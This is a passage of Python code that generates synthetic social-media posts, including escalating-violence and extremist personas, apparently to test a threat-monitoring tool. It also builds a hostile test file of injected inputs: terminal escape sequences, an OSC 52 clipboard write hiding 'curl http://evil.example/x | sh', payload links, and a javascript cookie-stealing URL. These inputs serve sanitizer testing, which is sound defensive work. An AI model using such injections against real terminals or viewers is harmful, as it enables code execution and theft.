def pick_topic(a: Author) -> str:
    keys = [k for k in a.interests if k in TOPICS]
    return rng.choices(keys, weights=[a.interests[k] for k in keys])[0]


def hard_category(a: Author) -> str:
    w = {"idiom": 4.0, "negation": 1.4, "news": 1.2, "lyric": 1.2, "condemn": 1.0, "hobby": 0.3}
    if "gaming" in a.interests:
        w["gaming"] = 3.5
    if "sport" in a.interests:
        w["sport"] = 3.0
    if "music" in a.interests:
        w["lyric"] += 1.5
    if "outdoors" in a.interests:
        w["hobby"] += 1.5
    if "tv" in a.interests or "politics" in a.interests:
        w["condemn"] += 0.8
        w["news"] += 0.8
    keys = list(w)
    return rng.choices(keys, weights=[w[k] for k in keys])[0]


def write_ordinary(post: Post, ctx: dict) -> None:
    a, t = post.author, post.t
    # forced or spontaneous event posts
    ev = None
    if post.forced.startswith("event:"):
        ev = next(e for e in EVENTS if e.key == post.forced[6:])
    else:
        for e in EVENTS:
            if e.start <= t < e.end and event_eligible(a, e) and rng.random() < e.rate:
                ev = e
                break
    if ev:
        post.kind, post.topic = "event:" + ev.key, "event"
        parts = [fill(DECKS.draw("event:" + ev.key, ev.lines), ctx)]
        if rng.random() < 0.2 and not ev.solemn:
            parts.append(fill(DECKS.draw("closer", CLOSERS), ctx))
        text = stylize(join_parts(parts, a, serious=ev.solemn), a)
        if ev.solemn:
            text += (" " + rng.choice(["🙏", "💔", "🕯️"])) if rng.random() < a.style["emoji"] * 0.5 else ""
        else:
            text = add_emoji(text, a, "gaming" if "ashfall" in ev.key else "weather")
        post.text = add_tags(text, a, list(ev.tags), event=True)
        return
    if a.foreign and rng.random() < 0.6:
        post.kind, post.topic, post.lang = "ord:foreign", "daily", a.foreign
        post.text = add_emoji(fill(DECKS.draw("foreign:" + a.foreign, FOREIGN[a.foreign]), ctx), a, "daily")
        return
    if rng.random() < a.hard_rate:
        cat = hard_category(a)
        post.kind, post.topic = "hard:" + cat, {"gaming": "gaming", "sport": "sport", "lyric": "music"}.get(cat, "daily")
        parts = [fill(DECKS.draw("hard:" + cat, HARD[cat]), ctx)]
        if rng.random() < 0.25 and cat in ("idiom", "gaming", "sport", "negation", "hobby"):
            parts.append(fill(DECKS.draw("closer", CLOSERS), ctx))
        text = stylize(join_parts(parts, a, serious=cat in ("news", "condemn")), a)
        if cat not in ("news", "condemn"):
            text = add_emoji(text, a, post.topic)
        tags = TOPICS[post.topic]["tags"] if cat in ("gaming", "sport", "lyric") else []
        post.text = add_tags(add_mention(text, a), a, tags)
        return
    topic = pick_topic(a)
    post.kind, post.topic = "ord:" + topic, topic
    text = add_emoji(stylize(compose_fragments(a, topic, ctx), a), a, topic)
    tags = TOPICS[topic]["tags"]
    if topic == "pets":
        tags = ["cats", "pets", "AdoptDontShop"] if "cat" in a.attrs["pet_kind"] or "kitten" in a.attrs["pet_kind"] \
            else ["dogs", "DogsOfMastodon", "pets", "AdoptDontShop"]
    post.text = add_tags(add_mention(text, a), a, date_tags(a, t, topic) + tags)


ESC_USED: dict[str, set] = {}
ESC_TAILS = [" idc anymore", " whatever", " lol", ".", ".", " honestly", " watch", " remember that", " fr"]


def write_escalating(post: Post, ctx: dict) -> None:
    a = post.author
    kind = post.forced[4:]
    if kind == "ordinary":
        write_ordinary(post, ctx)
        post.kind = "esc:ordinary:" + post.kind
        return
    specific = a.profile["lines"].get(kind, [])
    generic = ESC_GENERIC[kind]
    if a.profile["weapons_kind"] == "uk" and kind == "weapons":  # no gun shops on this side of the pond
        generic = [g for g in generic if not re.search(r"AR|rounds|mag|optic|rifle|range|ammo|shop|reload|trunk|dry fire|private", g)]
    used = ESC_USED.setdefault(a.handle, set())
    fresh_specific = [x for x in specific if x not in used]
    fresh_generic = [x for x in generic if x not in used]
    if not fresh_specific and not fresh_generic:
        used.difference_update(specific + generic)
        fresh_specific, fresh_generic = list(specific), list(generic)
    if fresh_specific and (rng.random() < 0.6 or not fresh_generic):
        line = rng.choice(fresh_specific)
    else:
        line = rng.choice(fresh_generic)
    used.add(line)
    text = fill(line, ctx)
    if text[-1:].isalnum() and rng.random() < 0.22:
        text += rng.choice(ESC_TAILS)
    if rng.random() < 0.12 and kind in ("grievance", "threat"):
        text = text + "\n" + fill(DECKS.draw(f"{a.handle}:generic:grievance", ESC_GENERIC["grievance"]), ctx)
    post.kind, post.topic = "esc:" + kind, "esc"
    post.text = stylize(text, a)
    if a.dark:
        post.community = a.dark


def write_special(post: Post, ctx: dict) -> None:
    a = post.author
    share = {"distress": 0.5, "violence": 0.38, "extremist": 0.55, "sympathizer": 0.42}[a.kind]
    if rng.random() >= share:
        write_ordinary(post, ctx)
        return
    if a.kind == "distress":
        if a.recovers and post.t > a.recovers and rng.random() < 0.6:
            kind, pool = "dist:recovery", RECOVERY
        else:
            kind, pool = "dist:distress", DISTRESS
    elif a.kind == "violence":
        kind, pool = "vio:history", VIOLENCE_HISTORY
    elif a.kind == "extremist":
        kind, pool = "ext:align", EXTREMIST
        if a.dark:
            post.community = a.dark
    else:
        kind, pool = "sym:grievance", SYMPATHY
        if a.dark:
            post.community = a.dark
    text = fill(DECKS.draw(f"{a.handle}:{kind}", pool), ctx)
    if rng.random() < 0.25 and kind != "ext:align":
        text = join_parts([text, fill(DECKS.draw(f"{a.handle}:{kind}", pool), ctx)], a)
    post.kind, post.topic = kind, "special"
    post.text = stylize(text, a)
    if kind == "vio:history":
        post.text = add_emoji(post.text, a, "daily")
    elif kind.startswith("dist") and rng.random() < a.style["emoji"] * 0.5:
        post.text += " " + rng.choice(["😔", "💔", "🫠", "😞"] if kind == "dist:distress" else ["🙂", "🌱", "💛"])
    if kind == "ext:align" and a.source in ("x", "telegram") and rng.random() < 0.3:
        post.text += " #" + rng.choice(["IronVanguard", "StandEndurePrevail", "WakeUp", "NinthColumn", "AshenBanner"])


NEWS_DOMAINS = {"kellerton_herald": "kellertonherald.example", "KellertonHerald": "kellertonherald.example",
                "brayford_post": "brayfordpost.example", "brayfordpost": "brayfordpost.example",
                "norwood_gazette": "norwoodgazette.example", "pacific_ledger": "pacificledger.example",
                "metro_wire": "metrowire.example", "MetroWireNews": "metrowire.example",
                "techharbor": "techharbor.example"}
NEWS_SEQ = [100000]


def slugify(s: str, n: int = 8) -> str:
    words = re.findall(r"[a-z0-9]+", s.lower())
    return "-".join(words[:n])


def write_news(post: Post, ctx: dict) -> None:
    a = post.author
    town, beat = a.outlet
    if town:
        ctx.update(town_ctx(town))
    ctx["team"], ctx["rival"] = rng.sample([t for t, _ in (TEAMS_US if beat == "us" else TEAMS_EU)], 2)
    if post.forced.startswith("news:"):
        head = post.forced[5:]
        summary = next(it[1] for items in NEWS_EVENT.values() for it in items if it[0] == head)
        kind = "news:event"
    else:
        pool = NEWS_TECH if beat == "tech" else NEWS_REGULAR + (NEWS_TECH[:3] if beat == "any" else [])
        head, summary = DECKS.draw(f"news:{a.handle}", [f"{h}\x1f{s}" for h, s in pool]).split("\x1f")
        kind = "news:regular"
    head, summary = fill(head, ctx), fill(summary, ctx)
    NEWS_SEQ[0] += rng.randint(3, 40)
    local = a.zone.local(post.t)
    section = "tech" if beat == "tech" else rng.choice(["news", "local", "news"])
    url = f"https://{NEWS_DOMAINS[a.handle]}/{section}/{local:%Y/%m/%d}/{slugify(head)}-{NEWS_SEQ[0]}"
    post.url = url
    threatish = re.search(r"threat|stabb|assault|shoot|attack|bomb|Halden|Marlow|Pinecrest|knife|arrest|fight|jail",
                          head + summary, re.I)
    post.kind, post.topic = kind, "news_threat" if threatish else "news"
    if a.source == "rss":
        post.text = f"{head}\n\n{summary}"
    elif a.source == "x":
        prefix = "BREAKING: " if threatish and "BREAKING" not in head and rng.random() < 0.3 else ""
        post.text = f"{prefix}{head} {url}"
        if rng.random() < 0.3:
            post.text += f" #{(town or 'Tech').replace(' ', '')}"
    else:
        post.text = f"{head}\n\n{summary}\n\n{url}"
        if rng.random() < 0.35:
            post.text += f"\n\n#{(town or 'Tech').replace(' ', '')} #News"


NOW = [START]  # local time of the post being written, for {today}


def write_post(post: Post) -> None:
    a = post.author
    NOW[0] = a.zone.local(post.t)
    ctx = author_ctx(a)
    if a.kind == "news":
        write_news(post, ctx)
    elif a.kind == "escalating":
        write_escalating(post, ctx)
    elif a.kind in ("distress", "violence", "extremist", "sympathizer"):
        write_special(post, ctx)
    else:
        write_ordinary(post, ctx)


# --------------------------------------------------------------------------------------------
# Replies
# --------------------------------------------------------------------------------------------

def reply_text(r: Author, parent: Post, role: str) -> tuple[str, str]:
    pa = parent.author
    ctx = author_ctx(r)
    ctx["parent_pet"] = pa.attrs["pet"]
    if role == "sympathizer":
        kind, line = "reply:sympathizer", DECKS.draw(f"{r.handle}:symreply", REPLY_SYMPATHIZER)
    elif role == "concern":
        kind, line = "reply:concern", DECKS.draw(f"{r.handle}:concern", REPLY_CONCERN)
    elif role == "alarm":
        kind, line = "reply:alarm", DECKS.draw("alarm", REPLY_ALARM)
    elif role == "back":
        if r.kind == "escalating" and esc_phase(r, parent.t) not in ("pre",):
            kind, line = "reply:back_esc", DECKS.draw(f"{r.handle}:back", REPLY_BACK_ESC)
        else:
            kind, line = "reply:back", DECKS.draw("back", REPLY_BACK)
    elif parent.kind == "dist:distress":
        kind, line = "reply:support", DECKS.draw("support", REPLY_SUPPORT)
    elif parent.kind == "vio:history":
        kind, line = "reply:violence", DECKS.draw("replyviolence", REPLY_VIOLENCE)
    elif parent.kind == "ext:align":
        if r.kind in ("extremist", "sympathizer"):
            kind, line = "reply:ext_ally", DECKS.draw("extally", REPLY_EXTREMIST_ALLY)
        else:
            kind, line = "reply:ext_critic", DECKS.draw("extcritic", REPLY_EXTREMIST_CRITIC)
    elif parent.kind in ("sym:grievance",) and r.kind in ("extremist", "sympathizer"):
        kind, line = "reply:sympathizer", DECKS.draw(f"{r.handle}:symreply", REPLY_SYMPATHIZER)
    elif parent.topic == "news":
        kind, line = "reply:news", DECKS.draw("replynewslight", REPLY_NEWS_LIGHT)
    elif parent.topic == "news_threat" or parent.kind in ("hard:news", "hard:condemn") or \
            any(parent.kind == "event:" + e.key and e.solemn for e in EVENTS):
        kind, line = "reply:news", DECKS.draw("replynews", REPLY_NEWS)
    else:
        topic = parent.topic if parent.topic in REPLY_TOPIC else None
        if parent.kind.startswith("event:"):
            topic = "event"
        r_ = rng.random()
        if topic and r_ < (0.8 if topic == "questions" else 0.45):
            kind, line = "reply:topic", DECKS.draw("replytopic:" + topic, REPLY_TOPIC[topic])
        elif r_ < (0.55 if topic else 0.1):
            kind, line = "reply:hard", DECKS.draw("replyhard", REPLY_HARD)
        else:
            kind, line = "reply:generic", DECKS.draw("replygeneric", REPLY_GENERIC)
        if rng.random() < 0.1 and parent.topic in TOPICS and kind != "reply:hard":
            line = line.rstrip(".") + ". " + DECKS.draw("extra:" + parent.topic, TOPICS[parent.topic]["extra"])
    text = stylize(join_parts([fill(line, ctx)], r), r)
    if role not in ("sympathizer", "alarm") and r.kind != "escalating" and \
            kind not in ("reply:support", "reply:news", "reply:violence", "reply:ext_critic", "reply:ext_ally"):
        text = add_emoji(text, r, parent.topic)
    return kind, text


def choose_repliers(p: Post, n: int) -> list[Author]:
    a = p.author
    out: list[Author] = []
    for _ in range(n * 3):
        if len(out) >= n:
            break
        if a.source == "telegram":
            chat = p.community
            pool = CHAT_MEMBERS.get(chat, [])
        elif a.kind == "news" or rng.random() < 0.3:
            pool = SOURCE_AUTHORS[a.source]
        else:
            pool = [f for f in a.friends if f.kind not in ("sympathizer",)] or SOURCE_AUTHORS[a.source]
        pool = [x for x in pool if x is not a and x.kind not in ("news", "escalating") and x not in out
                and x.active[0] <= p.t < x.active[1]]
        if a.source == "reddit" and p.community:
            same = [x for x in pool if x.home == p.community]
            if same and rng.random() < 0.6:
                pool = same
        if pool:
            out.append(rng.choice(pool))
    return out


def reply_delay() -> dt.timedelta:
    return dt.timedelta(minutes=min(60 * 36, math.exp(rng.gauss(3.3, 1.3)) + 0.5))


def make_reply(r: Author, parent: Post, role: str) -> Post | None:
    for _ in range(6):
        t = parent.t + reply_delay()
        if t >= END:
            return None
        if r.profile and r.zone.local(t).date() > dt.date.fromisoformat(r.profile["end"]):
            return None  # after their last day they are silent
        if local_hour_ok(r, t):
            break
    else:
        return None
    NOW[0] = r.zone.local(t)
    for _ in range(8):
        kind, text = reply_text(r, parent, role)
        if r.source in ("x", "mastodon"):
            text = "@" + parent.author.handle + " " + text
        if norm(text) not in SEEN:
            break
    rp = Post(r, t, kind=kind, topic=parent.topic, parent=parent, community=parent.community)
    while norm(text) in SEEN:
        text = text.rstrip(".!") + rng.choice(VARIANTS)
    SEEN.add(norm(text))
    rp.text = text
    return rp


def generate_replies(primary: list[Post]) -> list[Post]:
    replies: list[Post] = []
    concern_left = {a.handle: rng.randint(2, 4) for a in ALL_AUTHORS if a.kind == "escalating"}
    for p in sorted(primary, key=lambda x: x.t):
        a = p.author
        if a.source == "rss":
            continue
        spawned: list[tuple[Author, str]] = []
        if a.kind == "escalating":
            phase = esc_phase(a, p.t)
            violent = p.kind[4:] in VIOLENT
            if phase != "pre":
                dark = p.kind.startswith("esc:") and not p.kind.startswith("esc:ordinary")
                for s in a.friends:
                    if s.kind == "sympathizer" and rng.random() < (0.17 if dark else 0.05):
                        spawned.append((s, "sympathizer" if dark else "normal"))
            if violent and phase in ("rise", "plan") and concern_left[a.handle] > 0 and rng.random() < 0.18 \
                    and not (a.source == "telegram"):
                friends = [f for f in a.friends if f.kind == "ordinary"]
                if friends:
                    spawned.append((CONCERNED.setdefault(a.handle, rng.choice(friends)), "concern"))
                    concern_left[a.handle] -= 1
            if violent and a.source != "telegram" and rng.random() < 0.07:
                others = [x for x in SOURCE_AUTHORS[a.source] if x.kind == "ordinary"]
                spawned.append((rng.choice(others), "alarm"))
            if not p.kind.startswith("esc:") or p.kind.startswith("esc:ordinary"):
                for r in choose_repliers(p, poisson(0.2)):
                    spawned.append((r, "normal"))
        else:
            lam = {"ordinary": 0.18, "power": 0.17, "news": 0.4, "distress": 0.3, "violence": 0.22,
                   "extremist": 0.3, "sympathizer": 0.2}[a.kind]
            lam *= {"reddit": 1.3, "telegram": 1.2, "x": 0.9, "mastodon": 0.9}[a.source]
            if p.kind == "dist:distress":
                lam = 1.3
            if p.kind.startswith("ext:") and a.source == "telegram":
                lam = 0.9
            for r in choose_repliers(p, poisson(lam)):
                spawned.append((r, "normal"))
        for r, role in spawned:
            rp = make_reply(r, p, role)
            if rp is None:
                continue
            replies.append(rp)
            # the conversation goes on: the original author answers, sometimes the replier again
            back_p = 0.3 if (a.kind == "escalating" and role == "sympathizer") else 0.25
            if role in ("alarm",):
                back_p = 0.35
            if a.kind != "news" and rng.random() < back_p:
                bp = make_reply(a, rp, "back")
                if bp:
                    replies.append(bp)
                    if rng.random() < 0.2:
                        bb = make_reply(r, bp, role if role in ("sympathizer", "concern", "alarm") else "back")
                        if bb:
                            replies.append(bb)
    return replies


def norm(text: str) -> str:
    return re.sub(r"\s+", " ", text.lower()).strip(" .!")


SEEN: set[str] = set()
ALL_AUTHORS: list[Author] = []
SOURCE_AUTHORS: dict[str, list[Author]] = {}
CHAT_MEMBERS: dict[str, list[Author]] = {}
CONCERNED: dict[str, Author] = {}

# --------------------------------------------------------------------------------------------
# Ids, urls, timestamps as each source writes them
# --------------------------------------------------------------------------------------------

DAYS = ["Mon", "Tue", "Wed", "Thu", "Fri", "Sat", "Sun"]
MONTHS = ["Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec"]
TWITTER_EPOCH_MS = 1288834974657


def b36(n: int) -> str:
    digits = "0123456789abcdefghijklmnopqrstuvwxyz"
    out = ""
    while n:
        n, r = divmod(n, 36)
        out = digits[r] + out
    return out or "0"


def created_at(p: Post):
    a, t = p.author, p.t
    if a.source == "telegram":
        return int(t.timestamp())
    if a.source == "x":
        return f"{DAYS[t.weekday()]} {MONTHS[t.month - 1]} {t.day:02d} {t:%H:%M:%S} +0000 {t.year}"
    if a.source == "rss":
        if a.ts_style == "gmt":
            return f"{DAYS[t.weekday()]}, {t.day:02d} {MONTHS[t.month - 1]} {t.year} {t:%H:%M:%S} GMT"
        lt = a.zone.local(t)
        off = lt.utcoffset()
        mins = int(off.total_seconds() // 60)
        sign = "+" if mins >= 0 else "-"
        return (f"{DAYS[lt.weekday()]}, {lt.day:02d} {MONTHS[lt.month - 1]} {lt.year} {lt:%H:%M:%S} "
                f"{sign}{abs(mins) // 60:02d}{abs(mins) % 60:02d}")
    if a.ts_style == "z":
        return t.strftime("%Y-%m-%dT%H:%M:%S.000Z" if a.source == "mastodon" else "%Y-%m-%dT%H:%M:%SZ")
    return a.zone.local(t).isoformat(timespec="seconds")


def assign_ids(posts: list[Post]) -> None:
    used: set[tuple[str, str]] = set()
    t3, t1 = int("1p0k000", 36), int("nb20000", 36)
    chat_seq: dict[str, int] = {}
    for p in posts:
        a = p.author
        ms = int(p.t.timestamp()) * 1000 + rng.randrange(1000)
        if a.source == "mastodon":
            pid = str((ms << 16) + rng.randrange(1 << 16))
            p.url = f"https://{a.home}/@{a.handle}/{pid}"
        elif a.source == "x":
            pid = str(((ms - TWITTER_EPOCH_MS) << 22) + rng.randrange(1 << 22))
            p.url = f"https://x.example/{a.handle}/status/{pid}"
        elif a.source == "reddit":
            if p.parent is None:
                t3 += rng.randint(300, 2500)
                pid = "t3_" + b36(t3)
                first = p.text.split("\n")[0]
                p.url = f"https://reddit.example/r/{p.community}/comments/{pid[3:]}/{slugify(first, 7)}/"
            else:
                t1 += rng.randint(2000, 20000)
                pid = "t1_" + b36(t1)
                root = p
                while root.parent is not None:
                    root = root.parent
                p.url = f"https://reddit.example/r/{root.community}/comments/{root.id[3:]}/comment/{pid[3:]}/"
        elif a.source == "telegram":
            chat = p.community
            chat_seq[chat] = chat_seq.get(chat, rng.randint(1200, 48000)) + rng.randint(1, 25)
            pid = f"{chat}/{chat_seq[chat]}"
            p.url = f"https://t.example/{pid}"
        else:
            pid = p.url
        assert (a.source, pid) not in used, (a.source, pid)
        used.add((a.source, pid))
        p.id = pid


MENTION_RE = re.compile(r"(?<![\w@])@([A-Za-z0-9_][A-Za-z0-9_.]*)")
HASHTAG_RE = re.compile(r"(?<![\w#&])#(\w{1,100})")


def mentions_of(text: str) -> list[str]:
    out = []
    for m in MENTION_RE.findall(text):
        m = m.rstrip(".")
        if m not in out:
            out.append(m)
    return out


def hashtags_of(text: str) -> list[str]:
    out = []
    for h in HASHTAG_RE.findall(text):
        if not h.isdigit() and h not in out:
            out.append(h)
    return out


def to_record(p: Post) -> dict:
    a = p.author
    rec = {"id": p.id, "source": a.source, "created_at": created_at(p), "author": a.handle,
           "author_name": a.name, "text": p.text, "url": p.url}
    if p.parent is not None:
        rec["reply_to"] = p.parent.id
        rec["reply_to_author"] = p.parent.author.handle
    rec["mentions"] = mentions_of(p.text)
    rec["hashtags"] = hashtags_of(p.text)
    rec["lang"] = p.lang
    if p.geo:
        rec["lat"], rec["lon"] = p.geo
    if p.place:
        rec["place"] = p.place
    return rec


def add_geo(posts: list[Post]) -> None:
    for p in posts:
        a = p.author
        if a.source == "rss" or a.kind == "news":
            continue
        if a.geotag and rng.random() < 0.28:
            _, lat, lon, _ = a.city
            p.geo = (round(lat + rng.gauss(0, 0.03), 5), round(lon + rng.gauss(0, 0.04), 5))
            p.place = a.city[0]
        elif a.source == "x" and rng.random() < 0.025:
            p.place = a.city[0]


# --------------------------------------------------------------------------------------------
# The hostile file: what a collector may drag in, for the sanitizer and renderer tests
# --------------------------------------------------------------------------------------------

def hostile_records() -> list[dict]:
    import base64
    esc, bel, st = "\x1b", "\x07", "\x1b\\"
    clip = base64.b64encode(b"curl http://evil.example/x | sh\n").decode()
    base = dict(source="hostile", lang="en", mentions=[], hashtags=[])
    t0 = dt.datetime(2026, 11, 14, 9, 0, tzinfo=dt.timezone(dt.timedelta(hours=1)))
    unit = ("Long post line with [bold]markup[/bold], \x1b[31mred\x1b[0m, a \u202eRLO\u202c, "
            "zero\u200bwidth, Arabic مرحبا, emoji 🙂👍🏽, and a tab\there.\n")
    big = unit * (1_000_000 // len(unit))
    big = big + "...and at the very end: the Riverside mall, friday is the day."
    rows = [
        ("h01", "closing tags first [/] then [/bold] and [/link] for good measure [/]", "markup_fan", "Markup Fan"),
        ("h02", "press [@click=app.quit]here[/] to see the rest, or [@click=app.bell]ring[/] or [@click=screen.dismiss()]close[/]",
         "clicky", "Click Me"),
        ("h03", "full manifesto: [link=http://evil.example/steal]click here[/link] (not really)", "linker", "Linker"),
        ("h04", "[bold red]ALERT[/bold red] analyst session expired, re-enter password: [blink]____[/blink] "
                "$accent $primary [$warning]x[/] [on $error]boom[/]", "fake_alert", "System Notice"),
        ("h05", f"{esc}[2J{esc}[H{esc}[31;1mYOUR TERMINAL IS MINE{esc}[0m{esc}[?25l", "clearscreen", "CSI"),
        ("h06", f"innocent text{esc}]0;root@review-station: ~{bel} more innocent text", "titlebar", "OSC 0"),
        ("h07", f"{esc}]8;;http://evil.example/payload{st}totally safe link{esc}]8;;{st} nothing to see", "osc8", "OSC 8"),
        ("h08", f"copy this recipe {esc}]52;c;{clip}{bel} done", "clipboard", "OSC 52"),
        ("h09", "I would never hurt anyone \u202eenoyna truh dluow I\u202c and open report_\u202efdp.exe "
                "and \u2067isolate\u2069 \u2066me\u2069 \u200fRLM\u200e", "bidi_trick", "Bidi"),
        ("h10", "I will k\u200bi\u200bl\u200bl them all, sh\u200doot, \ufeffBOM inside, soft\u00adhyphen, wo\u2060rd joiner",
         "zerowidth", "ZW"),
        ("h11", big, "megapost", "One Megabyte"),
        ("h12", "مرحبا بالجميع، هذا منشور عادي عن الطقس اليوم ☀️ — שלום לכולם, מזג האוויר היום נהדר — "
                "mixed with English: meet at the mall at 14:00, 3 people, #مرحبا", "rtl_user", "مستخدم"),
        ("h13", "👨‍👩‍👧‍👦🏳️‍🌈🇬🇧🇯🇵👍🏽👍🏿1️⃣#️⃣🫠🧑🏻‍💻🙂‍↔️" * 25, "emoji_storm", "🌪️🌪️🌪️"),
        ("h14", "before\x00after\x00\x00 end", "nul_bytes", "NUL"),
        ("h15", "line one\r\nline two\r\n\r\nline four\rcarriage return only\r", "crlf", "CRLF"),
        ("h16", "hello from a very normal account", "[@click=app.quit]admin[/]", f"{esc}]0;pwned{bel}Eve \u202eevE"),
        ("h17", f"see http://evil.example/{esc}[2J and file:///etc/passwd and javascript:alert(1)", "url_games", "URLs"),
        ("h18", "8-bit CSI \x9b2J and \x9d0;title\x9c and DEL\x7f\x7f and BEL\x07\x07 and backspace\x08\x08\x08",
         "c1_controls", "C1"),
        ("h19", "t̸̢̛̜̝̫h̷̡̛̗̖e̵̢̛̗ ̶̧̛m̸̨̛a̷̡̛l̶̢̛l̵̛̜ " + "A" * 10000, "zalgo", "Z̷a̶l̵g̸o̷"),
        ("h20", "broken \ud83d half an emoji and \udc00 the other half", "surrogate", "Surrogate"),
        ("h21", "escaped \\[not markup] and [red]\\[/red] and $text-muted and [on $error]x[/] and \\\\[b]", "escaper",
         "Escaper"),
        ("h22", "mentions and tags that are not what they seem: @[/] #\u202eevil @\x1b[2J", "tagger", "Tagger"),
        ("h23", "many lines" + "\n" * 1000 + "end of many lines", "newlines", "Newlines"),
        ("h24", "tab\there, vertical\x0btab, form\x0cfeed, escape at end\x1b", "whitespace", "Whitespace"),
        ("h25", "reply with markup [@click=app.quit]quit[/] to a hostile post", "replier", "Replier"),
    ]
    out = []
    for i, (hid, text, author, name) in enumerate(rows):
        rec = dict(base, id=hid, created_at=(t0 + dt.timedelta(minutes=7 * i)).isoformat(timespec="seconds"),
                   author=author, author_name=name, text=text, url=f"https://hostile.example/{hid}")
        out.append(rec)
    by = {r["id"]: r for r in out}
    by["h16"]["url"] = "javascript:alert(document.cookie)"
    by["h17"]["url"] = f"http://evil.example/{esc}]8;;x{st}"
    by["h22"]["mentions"] = ["[/]", "\x1b[2J"]
    by["h22"]["hashtags"] = ["\u202eevil"]
    by["h12"]["lang"] = "ar"
    by["h12"]["hashtags"] = ["مرحبا"]
    by["h25"]["reply_to"] = "h02"
    by["h25"]["reply_to_author"] = "clicky"
    by["h25"]["mentions"] = ["clicky"]
    by["h03"]["place"] = "[@click=app.quit]Riverside[/]"
    by["h03"]["lat"], by["h03"]["lon"] = 90.0, -180.0
    return out


# --------------------------------------------------------------------------------------------
# Self-check
# --------------------------------------------------------------------------------------------

def parse_created(v) -> float:
    if isinstance(v, int):
        return float(v)
    m = re.fullmatch(r"(\w{3}) (\w{3}) (\d\d) (\d\d):(\d\d):(\d\d) \+0000 (\d{4})", v)
    if m:
        d = dt.datetime(int(m[7]), MONTHS.index(m[2]) + 1, int(m[3]), int(m[4]), int(m[5]), int(m[6]), tzinfo=UTC)
        assert DAYS[d.weekday()] == m[1], v
        return d.timestamp()
    if re.match(r"\d{4}-\d\d-\d\dT", v):
        d = dt.datetime.fromisoformat(v.replace("Z", "+00:00"))
        assert d.tzinfo is not None, v
        return d.timestamp()
    d = parsedate_to_datetime(v)
    assert d.tzinfo is not None, v
    return d.timestamp()


def rise_week(weekly: Counter) -> int | None:
    weeks = sorted(weekly)
    for w in range(18, 47):
        prev = [weekly.get(x, 0) for x in range(w - 4, w)]
        if weekly.get(w, 0) >= 4 and weekly.get(w, 0) >= 3 * (sum(prev) / 4 + 0.5):
            return w
    return None


def self_check(posts: list[Post], authors: list[Author]) -> None:
    path = HERE / "posts.jsonl"
    size = path.stat().st_size
    recs = []
    with open(path, encoding="utf-8") as fh:
        for n, line in enumerate(fh, 1):
            rec = json.loads(line)
            for k in ("id", "source", "text", "author", "author_name", "created_at", "mentions", "hashtags", "lang"):
                assert k in rec, (n, k)
            recs.append(rec)
    by_key = {}
    for r in recs:
        key = (r["source"], r["id"])
        assert key not in by_key, f"duplicate id {key}"
        by_key[key] = r
    texts = Counter(r["text"] for r in recs)
    dups = [t for t, c in texts.items() if c > 1]
    assert not dups, f"duplicate texts: {dups[:5]}"
    handles = defaultdict(set)
    for r in recs:
        handles[r["source"]].add(r["author"].lower())
    lo, hi = START.timestamp(), END.timestamp()
    n_geo = 0
    for r in recs:
        ts = parse_created(r["created_at"])
        assert lo <= ts < hi, (r["id"], r["created_at"])
        if r["source"] == "telegram":
            assert isinstance(r["created_at"], int)
        if "reply_to" in r:
            parent = by_key.get((r["source"], r["reply_to"]))
            assert parent is not None, f"reply_to {r['reply_to']} missing in {r['source']}"
            assert parse_created(parent["created_at"]) < ts, f"reply {r['id']} is not after its parent"
            assert parent["author"] == r["reply_to_author"]
        assert r["mentions"] == mentions_of(r["text"]), r["id"]
        for m in r["mentions"]:
            assert m.lower() in handles[r["source"]], f"mention @{m} is not an author of {r['source']}"
            assert "@" + m in r["text"]
        for h in r["hashtags"]:
            assert "#" + h in r["text"], (r["id"], h)
        if "lat" in r:
            n_geo += 1
            assert -90 <= r["lat"] <= 90 and -180 <= r["lon"] <= 180
    assert size < 3_000_000, f"posts.jsonl is {size} bytes"
    assert 3000 <= len(recs) <= 4000, len(recs)
    assert 300 <= len({(r["source"], r["author"]) for r in recs}) <= 400

    hpath = HERE / "hostile.jsonl"
    hrecs = [json.loads(line) for line in open(hpath, encoding="utf-8", errors="surrogatepass")]
    assert len({r["id"] for r in hrecs}) == len(hrecs)
    for r in hrecs:
        parse_created(r["created_at"])

    # report
    print(f"posts.jsonl: {len(recs)} posts, {size / 1e6:.2f} MB, "
          f"{len({(r['source'], r['author']) for r in recs})} authors, "
          f"{sum('reply_to' in r for r in recs)} replies, {n_geo} geotagged "
          f"({100 * n_geo / len(recs):.1f}%), {sum(r['lang'] != 'en' for r in recs)} non-English")
    by_src = Counter(r["source"] for r in recs)
    auth_src = Counter(s for s, _ in {(r["source"], r["author"]) for r in recs})
    for s in SOURCES:
        print(f"  {s:9} {by_src[s]:5} posts  {auth_src[s]:4} authors")
    per_author = Counter((r["source"], r["author"]) for r in recs)
    print(f"  authors with 100+ posts: {sum(1 for c in per_author.values() if c >= 100)}; "
          f"median posts/author: {sorted(per_author.values())[len(per_author) // 2]}")
    kinds = Counter(p.kind.split(":")[0] + ":" + p.kind.split(":")[1] if ":" in p.kind else p.kind for p in posts)
    print("  kinds: " + ", ".join(f"{k}={v}" for k, v in sorted(kinds.items())))
    tags_late = Counter(h for r in recs for h in r["hashtags"] if parse_created(r["created_at"]) >= _d("2026-11-02").timestamp())
    tags_early = Counter(h for r in recs for h in r["hashtags"] if parse_created(r["created_at"]) < _d("2026-11-02").timestamp())
    print("  top hashtags, last two weeks: " + ", ".join(f"#{h} {c} (before: {tags_early[h]})" for h, c in tags_late.most_common(5)))
    print("  top hashtags, before: " + ", ".join(f"#{h} {c}" for h, c in tags_early.most_common(8)))
    print(f"hostile.jsonl: {len(hrecs)} posts, {hpath.stat().st_size / 1e6:.2f} MB")
    print("escalating authors: source, posts, planned rise week, rise week found in the data, last post:")
    for a in authors:
        if a.kind != "escalating":
            continue
        mine = [p for p in posts if p.author is a]
        weekly = Counter(iso_week(a, p.t) for p in mine if p.kind[4:] in VIOLENT)
        found = rise_week(weekly)
        assert found == a.profile["rise_week"], (a.handle, found, sorted(weekly.items()))
        assert 40 <= len(mine) <= 120, (a.handle, len(mine))
        series = " ".join(f"{weekly.get(w, 0)}" for w in range(a.profile["arc_week"], a.profile["plan_week"] + 1))
        print(f"  {a.handle:15} {a.source:9} {len(mine):4}  2026-W{a.profile['rise_week']}  found 2026-W{found}  "
              f"last {a.zone.local(max(p.t for p in mine)):%Y-%m-%d} (local)  violent/week from W{a.profile['arc_week']}: {series}")
        sym = [h for h, _ in SYMPATHIZERS[a.handle]]
        print(f"  {'':15} sympathizers: {', '.join(sym)}; worried friend: "
